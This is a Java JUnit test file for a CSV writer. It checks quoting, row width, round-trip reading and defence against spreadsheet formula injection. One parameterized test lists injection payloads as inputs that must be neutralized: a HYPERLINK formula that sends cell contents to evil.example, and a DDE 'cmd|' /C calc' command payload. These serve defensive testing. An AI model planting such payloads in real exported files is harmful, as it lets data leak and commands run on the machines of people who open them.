package dev.standpoint.render.data;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.standpoint.render.XmlText;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTest {

  private static final List<String> PIECES =
      List.of(
          "=", "+", "-", "@", "'", "\"", ",", ";", "\t", "\n", "\r", " ", "a", "\uff1d", "\u200b");

  @Test
  void linesEndInCrlfAndCellsAreQuotedWhereNecessary() {
    assertThat(written("a", "b,c", "say \"no\"", "two\nlines", " x"))
        .isEqualTo("1,2,3,4,5\r\na,\"b,c\",\"say \"\"no\"\"\",\"two\nlines\",\" x\"\r\n");
  }

  @Test
  void aRowHasACellForEachColumn() {
    CsvTable table = new CsvTable(List.of("id", "when"));

    assertThatThrownBy(() -> table.row("vik")).isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://evil.example/?\"&A1;\"look\")",
        "+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        " \u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\uff1d1",
        "yes;=1+1",
        "yes\n=1+1",
        "\u0007=1"
      })
  void noCellStartsAFormulaWhateverTheSeparator(String text) {
    String cell = CsvTable.words(text);

    assertThat(cell).doesNotContainPattern("(^[\\s\\p{Z}\\p{Cf}\ufffd]*|[;\\t\\n])[-=+@\uff1d]");
    assertThat(Csv.unguarded(cell)).isEqualTo(XmlText.printable(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "we sign; - and not before",
        "a = b",
        "'tis so",
        "holt@norra.example",
        "5 - 3",
        "\"=1\"",
        ""
      })
  void ordinaryWordsStayAsTheyAre(String text) {
    assertThat(CsvTable.words(text)).isEqualTo(text);
  }

  static LongStream seeds() {
    return LongStream.range(0, 300);
  }

  @ParameterizedTest(name = "seed {0}")
  @MethodSource("seeds")
  void everyTextIsReadBackUnchanged(long seed) {
    Random random = new Random(seed);
    String text =
        Stream.generate(() -> PIECES.get(random.nextInt(PIECES.size())))
            .limit(1 + random.nextInt(12))
            .collect(Collectors.joining());

    Csv read = Csv.read(written("id", CsvTable.words(text), "", "", "last"));

    assertThat(read.rows()).hasSize(1);
    assertThat(Csv.unguarded(read.column("2").get(0))).isEqualTo(XmlText.printable(text));
    assertThat(read.column("5")).containsExactly("last");
  }

  private static String written(String... cells) {
    CsvTable table = new CsvTable(List.of("1", "2", "3", "4", "5"));
    table.row(cells);
    return new String(table.bytes(), StandardCharsets.UTF_8);
  }
}
